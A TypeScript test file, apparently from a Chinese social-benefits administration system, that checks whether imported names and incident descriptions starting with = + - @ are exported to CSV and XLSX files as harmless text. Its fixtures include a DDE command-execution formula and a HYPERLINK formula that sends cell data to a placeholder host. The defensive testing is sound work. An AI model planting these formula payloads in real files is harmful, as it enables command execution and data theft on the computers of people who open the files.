// Formula injection in the exports about people: persons whose names begin with = + - @ come in through the real
// import, and the 5E risk file (CSV) and the skill-subsidy queue (XLSX) made from them carry the names as text an
// Excel will not run; so does a 要情报告 whose typed description begins with =.
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadParameters } from '../../../src/adapters/parameters/load-parameters.ts';
import { importedCertificateRegistry } from '../../../src/adapters/registry/imported-certificate-registry.ts';
import type { Store } from '../../../src/adapters/store/open-store.ts';
import { exportIncidents, recordIncident } from '../../../src/services/fund/incidents.ts';
import { importFile } from '../../../src/services/imports/import-file.ts';
import { exportFiveE } from '../../../src/services/risk/export-5e.ts';
import { applyForSkillSubsidy } from '../../../src/services/skill-subsidy/apply.ts';
import { writeSkillApplicationsXlsx } from '../../../src/services/skill-subsidy/queue.ts';
import { csvRows, formulaCells, xlsxRows } from '../../support/export-cells.ts';
import { idNumberFor, testCipher, writeCsvFile } from '../../support/import-fixtures.ts';
import { insertUnit } from '../../support/review-fixtures.ts';
import { caseWorker, CITY, clock, compareCity, HUANCUI, system } from '../../support/risk-fixtures.ts';
import { storeBackends, suiteWithFolder } from '../../support/store-backends.ts';

/** Person names as an attacker would import them, each followed by what the files must show instead. */
const HOSTILE_NAMES: readonly (readonly [string, string])[] = [
  [`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`],
  ['+SUM(1,2)张三', `'+SUM(1,2)张三`],
  ['-2+3+cmd|李四', `'-2+3+cmd|李四`],
  ['@SUM(A1:A9)王五', `'@SUM(A1:A9)王五`],
];
const shown = HOSTILE_NAMES.map(([, text]) => text);
const idNumbers = HOSTILE_NAMES.map((_, i) => idNumberFor(7100 + i));

async function importCsv(
  store: Store,
  folder: string,
  kind: 'persons' | 'comparison-deaths',
  headers: string[],
  rows: string[][],
) {
  const path = join(folder, `${kind}.csv`);
  writeCsvFile(path, headers, rows, 'utf8');
  const result = await importFile(store, {
    kind,
    path,
    fileName: `${kind}.csv`,
    actor: '经办员张三',
    cipher: testCipher,
    reportDir: folder,
  });
  expect(result.status === 'rejected' ? result.errors : [], kind).toEqual([]);
}

/** Imports the persons as a case worker's upload does; returns their ids in file order. */
async function importPersons(store: Store, folder: string): Promise<number[]> {
  const rows = HOSTILE_NAMES.map(([name], i) => [idNumbers[i]!, name, '13906310000', '', HUANCUI]);
  await importCsv(store, folder, 'persons', ['公民身份号码', '姓名', '手机号码', '社保卡银行账号', '所属区划代码'], rows);
  const persons = await store.db.selectFrom('persons').select(['id', 'name']).orderBy('id').execute();
  expect(persons.map((p) => p.name)).toEqual(HOSTILE_NAMES.map(([name]) => name));
  return persons.map((p) => p.id);
}

function expectInert(name: string, rows: string[][], names: readonly string[]): void {
  expect(formulaCells(rows.flat()), `${name}: cells a spreadsheet would run`).toEqual([]);
  expect(rows.flat(), name).toEqual(expect.arrayContaining([...names]));
}

for (const backend of storeBackends()) {
  describe.skipIf(backend.skipReason)(`formula injection through the exports about people on ${backend.name}`, () => {
    const folder = suiteWithFolder(backend, 'wengang-export-injection-people-');

    it('shows imported person names beginning with = + - @ as text in the 5E file', async () => {
      await backend.withStore(async (store) => {
        const dir = folder();
        const ids = await importPersons(store, dir);
        await store.db
          .insertInto('benefit_periods')
          .values(ids.map((person_id) => ({ person_id, from_date: '2024-03-01', to_date: '2024-12-31', region_code: HUANCUI })))
          .execute();
        const deaths = idNumbers.map((idNumber) => [idNumber, '2024-08-10', '', '公安户籍注销']);
        await importCsv(store, dir, 'comparison-deaths', ['公民身份号码', '死亡日期', '撤销日期', '信息来源'], deaths);
        const run = await compareCity(store.db);
        expect(run.newHits).toBe(4);

        const path = join(dir, '5e.csv');
        expect(await exportFiveE(store.db, { cityCode: CITY, path, actor: system, clock })).toEqual({ rowCount: 4 });
        const rows = csvRows(await readFile(path, 'utf8'));
        expect(
          rows
            .slice(1)
            .map((row) => row[9])
            .sort(),
        ).toEqual([...shown].sort());
        expectInert('5E', rows, shown);
      });
    });

    it('shows imported person names beginning with = + - @ as text in the skill-subsidy queue', async () => {
      await backend.withStore(async (store) => {
        const { db } = store;
        const ids = await importPersons(store, folder());
        const unit = await insertUnit(db, { name: '技能注入测试有限公司' });
        await db
          .insertInto('insurance_spells')
          .values(
            ids.map((person_id) => ({
              person_id,
              unit_id: unit.id,
              from_period: '2020-01',
              to_period: null,
              region_code: HUANCUI,
            })),
          )
          .execute();
        const numbers = ids.map((_, i) => `S0000371002${String(900 + i).padStart(11, '0')}`);
        await db
          .insertInto('certificates')
          .values(
            ids.map((person_id, i) => ({
              number: numbers[i]!,
              person_id,
              occupation_code: '6-18-02-04',
              occupation_name: '焊工',
              level: 4,
              issue_date: '2024-03-01',
              verified: true,
              issuing_body: '威海市职业技能鉴定指导中心',
              region_code: HUANCUI,
            })),
          )
          .execute();
        const registry = importedCertificateRegistry(db, testCipher);
        for (const certificateNumber of numbers) {
          await applyForSkillSubsidy(db, {
            certificateNumber,
            channel: 'case_worker',
            by: caseWorker.name,
            registry,
            cipher: testCipher,
            params: loadParameters(),
            clock,
          });
        }

        const path = join(folder(), 'skill-queue.xlsx');
        expect(await writeSkillApplicationsXlsx(db, {}, path)).toBe(4);
        const rows = await xlsxRows(path);
        expect(
          rows
            .slice(1)
            .map((row) => row[1])
            .sort(),
        ).toEqual([...shown].sort());
        expectInert('skill queue', rows, shown);
      });
    });

    it('shows a 要情报告 description typed as a formula as text in its export', async () => {
      await backend.withStore(async ({ db }) => {
        await recordIncident(db, {
          occurredAt: '2024-08-10T09:30:00+08:00',
          regionCode: HUANCUI,
          category: 'fund_security',
          description: '=HYPERLINK("http://x.example/?q="&A1,"疑似冒领")',
          followUp: '@核查',
          actor: caseWorker,
          clock,
        });
        const path = join(folder(), 'incidents.xlsx');
        expect(await exportIncidents(db, { regionCode: CITY }, path)).toBe(1);
        const rows = await xlsxRows(path);
        expectInert('incidents', rows, [`'=HYPERLINK("http://x.example/?q="&A1,"疑似冒领")`, `'@核查`]);
      });
    });
  });
}
